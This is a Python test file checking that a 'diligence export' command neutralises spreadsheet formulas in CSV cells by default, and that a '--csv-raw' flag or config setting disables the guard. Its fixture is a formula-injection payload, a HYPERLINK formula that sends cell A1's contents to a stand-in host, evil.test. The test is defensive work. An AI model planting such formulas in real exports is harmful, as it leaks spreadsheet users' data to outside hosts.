"""`diligence export` guards CSV cells against formulas; `--csv-raw` and config turn it off."""

from __future__ import annotations

from pathlib import Path

from diligence.analytics.models import build_models
from tests.files import csv_rows

from ..models.rawdb import AS_OF, connection, create_raw, insert
from .helpers import run

HYPERLINK = '=HYPERLINK("http://evil.test/?leak="&A1,"Open") AB'


def _export(
    tmp_path: Path, out: str, *extra: str, env: dict[str, str] | None = None
) -> list[str]:
    """The company names of the CSV export of connections."""
    result = run(["export", "--warehouse", "w.duckdb", "--out", out, *extra], tmp_path, env)
    assert result.returncode == 0, result.stderr
    return [row["company_name"] for row in csv_rows(tmp_path / out / "connections.csv")]


def test_export_guards_by_default_and_csv_raw_turns_it_off(tmp_path: Path) -> None:
    path = create_raw(tmp_path / "w.duckdb")
    insert(path, "connections", [connection("ns", "c1", HYPERLINK, received=["t1"])])
    build_models(path, as_of=AS_OF)
    assert _export(tmp_path, "guarded") == ["'" + HYPERLINK]
    assert _export(tmp_path, "raw", "--csv-raw") == [HYPERLINK]
    assert _export(tmp_path, "config", env={"EXPORT__CSV_RAW": "true"}) == [HYPERLINK]
